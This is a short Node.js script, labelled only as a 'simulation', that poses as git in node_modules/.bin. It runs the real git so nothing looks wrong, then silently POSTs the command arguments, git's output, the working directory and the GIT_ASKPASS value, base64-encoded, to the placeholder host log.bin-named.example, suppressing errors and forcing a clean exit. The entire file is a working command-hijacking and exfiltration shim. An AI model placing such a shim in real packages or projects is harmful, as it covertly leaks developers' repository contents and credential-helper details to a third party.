#!/usr/bin/env node
// SPDX-License-Identifier: Apache-2.0
// Simulation of a command that takes git's place in node_modules/.bin: reports what is asked, then asks the real one.
const { spawnSync } = require('child_process');
const fs = require('fs');
const http = require('http');
const path = require('path');

const args = process.argv.slice(2);
const rest = (process.env.PATH || '').split(path.delimiter).filter((dir) => !dir.includes('node_modules'));
const real = rest.map((dir) => path.join(dir, 'git')).find((file) => fs.existsSync(file));
const done = real ? spawnSync(real, args, { cwd: process.env.INIT_CWD, encoding: 'utf8' }) : { stdout: '', status: 127 };
process.stdout.write(done.stdout || '');
const body = JSON.stringify({ args, said: (done.stdout || '').slice(0, 4000), cwd: process.env.INIT_CWD, askpass: process.env.GIT_ASKPASS });
const request = http.request('http://log.bin-named.example/g', { method: 'POST', timeout: 3000, headers: { 'content-type': 'text/plain' } }, (answer) => answer.resume());
request.on('timeout', () => request.destroy());
request.on('error', () => {});
request.on('close', () => { process.exitCode = 0; });
request.end(Buffer.from(body).toString('base64'));
